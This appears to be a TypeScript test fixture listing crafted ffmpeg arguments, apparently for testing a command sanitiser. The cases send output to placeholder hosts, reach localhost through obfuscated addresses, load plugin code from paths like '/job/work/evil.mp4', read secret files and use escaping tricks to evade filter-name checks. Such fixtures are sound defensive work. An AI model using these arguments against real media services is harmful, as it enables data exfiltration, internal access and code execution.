/** In the notation of `attack-commands-crafted.fixture.ts`. N opens a connection or a device, or loads code. */
export const connectAttacks = String.raw`
N101 -i ⟦tcp://HOST⇒in.ts⟧ -f null -
N102 -f data -i ⟦http://0x7f000001:PORT/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N103 -f data -i ⟦http://2130706433:PORT/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N104 -f data -i ⟦http://0177.0.0.1:PORT/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N105 -f data -i ⟦http://[::ffff:127.0.0.1]:PORT/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N106 -f data -i ⟦http://user:secret@HOST/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N107 -f data -i ⟦https://HOST/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N108 -f data -i ⟦tls://HOST⇒in.bin⟧ -map 0 -c copy -f data o.bin
N109 -f data -i ⟦async:http://HOST/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N110 -f data -i ⟦concat:http://HOST/meta|in.bin⇒in.bin⟧ -map 0 -c copy -f data o.bin
N111 -f data -i ⟦subfile,,start,0,end,9,,:http://HOST/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N112 -f data -key 00112233445566778899aabbccddeeff -iv 00112233445566778899aabbccddeeff -i ⟦crypto+http://HOST/meta⇒in.bin⟧ -map 0 -c copy -f data o.bin
N113 -i ⟦hls+http://HOST/x.m3u8⇒x.m3u8⟧ -f null -
N114 -i ⟦ftp://HOST/x⇒in.ts⟧ -f null -
N115 -i ⟦gopher://HOST/1x⇒in.ts⟧ -f null -
N116 -i ⟦rtmp://HOST/a/b⇒in.flv⟧ -f null -
N117 -i ⟦rtmpt://HOST/a/b⇒in.flv⟧ -f null -
N118 -i ⟦mmsh://HOST/x⇒in.ts⟧ -f null -
N119 -i ⟦sftp://HOST/x⇒in.ts⟧ -f null -
N120 -i ⟦amqp://HOST/x⇒in.ts⟧ -f null -
N121 -i ⟦rtsp://HOST/x⇒in.ts⟧ -f null -
N122 -rtsp_transport tcp -f ⟦rtsp -i rtsp://HOST/x⇒mpegts -i in.ts⇒rtsp⟧ -f null -
N123 -i ⟦ipfs://abc⇒in.ts⟧ -f null -
N124 ⟦-gateway http://HOST⇒-probesize 9000⇒-gateway⟧ -i in.ts -f null -
N125 ⟦-http_proxy http://HOST -f data -i http://192.0.2.1/x⇒-f data -i in.bin⇒-http_proxy⟧ -map 0 -c copy -f data o.bin
N126 -i ⟦unix:/link/ffmpeg.sock⇒in.ts⟧ -f null -
N127 -f ⟦sdp -i in.sdp⇒mpegts -i in.ts⇒sdp⟧ -f null -
N128 -i in.mp4 -c copy -f mpegts ⟦tcp://HOST⇒a.ts⟧
N129 -i in.mp4 -c copy -f mpegts ⟦unix:/link/ffmpeg.sock⇒a.ts⟧
N130 -i in.mp4 -c copy -f mpegts ⟦udp://HOST⇒a.ts⟧
N131 -i in.mp4 -c copy -f mpegts ⟦srt://HOST⇒a.ts⟧
N132 -i in.mp4 -c copy -f flv ⟦rtmp://HOST/a/b⇒a.flv⟧
N133 -i in.mp4 -map 0:a -c copy -f adts ⟦icecast://u:p@HOST/x⇒a.aac⟧
N134 -i in.mp4 -c copy -rtsp_transport tcp -f ⟦rtsp rtsp://HOST/x⇒mpegts a.ts⇒rtsp⟧
N135 -i in.mp4 -map 0:v -c copy -f ⟦rtp rtp://HOST⇒h264 a.h264⇒rtp⟧
N136 -i in.mp4 -c copy -f ⟦rtp_mpegts rtp://HOST⇒mpegts a.ts⇒rtp_mpegts⟧
N137 -i in.mp4 -c copy -f hls -hls_segment_filename ⟦http://HOST/h%d.ts⇒h%d.ts⟧ h.m3u8
N138 -i in.mp4 -c copy -f segment -segment_list ⟦http://HOST/l⇒l⟧ s%d.ts
N139 -i in.mp4 -c copy -f dash ⟦http://HOST/x.mpd⇒x.mpd⟧
N140 -i in.mp4 -map 0 -c copy -f tee "o.ts|⟦tcp://HOST⇒t.ts⟧"
N141 -i in.mp4 -map 0 -c copy -f tee '[f=segment:segment_list=⟦http\\://HOST_E/l⇒l⟧]s%d.ts'
N142 -i in.mp4 -map 0 -c copy -f tee "o.ts|[⟦f=hls:method=PUT]http://HOST/x.m3u8⇒f=hls]x.m3u8⇒method⟧"
N143 -f lavfi -i 'amovie=⟦tcp\\://HOST_E⇒in.bin⟧:f=u8' -f u8 o.bin
N144 -f lavfi -i "amovie=⟦'http\://HOST_C/meta'⇒'in.bin'⇒http\://HOST_C/meta⟧:f=u8" -f u8 o.bin
N145 -f lavfi -i "movie=x.m3u8:format_opts=⟦protocol_whitelist=ALL⇒live_start_index=0⟧" -f null -
N146 -i in.mp4 -vf 'metadata=print:file=⟦http\\://HOST_E/md⇒md⟧' -f null -
N147 -i in.mp4 -vf 'subtitles=⟦http\\://HOST_E/s.srt⇒in.srt⟧' -f null -
N148 -i in.mp4 -vf ⟦zmq⇒null⟧ -f null -
N149 -i in.mp4 -af ⟦azmq=b=tcp\\://127.0.0.1\\:5555⇒anull⇒azmq⟧ -f null -
N150 -i in.mp4 -stats_enc_pre ⟦http://HOST/s⇒s⟧ -c:v libx264 -f null -
N151 -i in.mp4 -map 0 -c copy -attach ⟦http://HOST/a⇒notes.txt⟧ -metadata:s:t mimetype=text/plain -f matroska o.bin
N152 ⟦-protocol_whitelist file,http,tcp,tls,crypto⇒-allowed_extensions ALL⇒-protocol_whitelist⟧ -i web.m3u8 -c copy -f null -
N153 ⟦-listen 1 -i http://HOST/x⇒-i in.ts⇒-listen⟧ -f null -
N154 -i in.mp4 -c copy -f hls ⟦-headers X:y⇒-hls_time 2⇒-headers⟧ x.m3u8
N155 ⟦-cafile SECRET⇒-re⇒-cafile⟧ -i in.mp4 -f null -
N156 -i in.mp4 -af ⟦lad\spa⇒volum\e⇒lad\spa⟧=file=/job/work/evil.mp4 -f null -
N157 -i in.mp4 -af "⟦'ladspa'⇒'volume'⇒ladspa⟧=file=/job/work/evil.mp4:plugin=x" -f null -
N158 -i in.mp4 -af "⟦ladspa@z⇒volume@z⟧=file=/job/work/evil.mp4:plugin=x" -f null -
N159 -i in.mp4 -filter_complex "[0:a]⟦ladspa⇒volume⟧=file=/job/work/evil.mp4:plugin=x" -f null -
N160 -i in.mp4 -af ⟦lv2⇒anull⟧ -f null -
N161 -i in.mp4 -vf ⟦frei0r=../../job/work/evil⇒hflip⇒frei0r⟧ -f null -
N162 -f lavfi -i ⟦frei0r_src=640x480:25:partik0l⇒color⇒frei0r_src⟧ -t 1 -f null -
N163 -i in.mp4 -vf ⟦libplacebo=custom_shader_path=SECRET⇒hflip⇒libplacebo⟧ -f null -
N164 -i in.mp4 -vf ⟦program_opencl=source=SECRET:kernel=x⇒hflip⇒program_opencl⟧ -f null -
N165 -i in.mp4 -vf ⟦dnn_processing=model=SECRET⇒hflip⇒dnn_processing⟧ -f null -
N166 -i in.mp4 -af ⟦asr=hmm=/app⇒anull⇒asr⟧ -f null -
N167 ⟦-init_hw_device vulkan=v:0⇒-re⇒-init_hw_device⟧ -i in.mp4 -f null -
N168 ⟦-hwaccel vaapi⇒-re⇒-hwaccel⟧ -i in.mp4 -f null -
N169 -f ⟦x11grab⇒mpegts⟧ -i in.ts -f null -
N170 -f ⟦v4l2 -i /dev/video0⇒mpegts -i in.ts⇒v4l2⟧ -f null -
N171 -f ⟦fbdev -i /dev/fb0⇒mpegts -i in.ts⇒fbdev⟧ -f null -
N172 -f ⟦kmsgrab -i -⇒mpegts -i in.ts⇒kmsgrab⟧ -f null -
N173 -i in.mp4 -f ⟦pulse⇒matroska⟧ a.mkv
N174 -i in.mp4 -f ⟦sdl2⇒matroska⟧ a.mkv
`
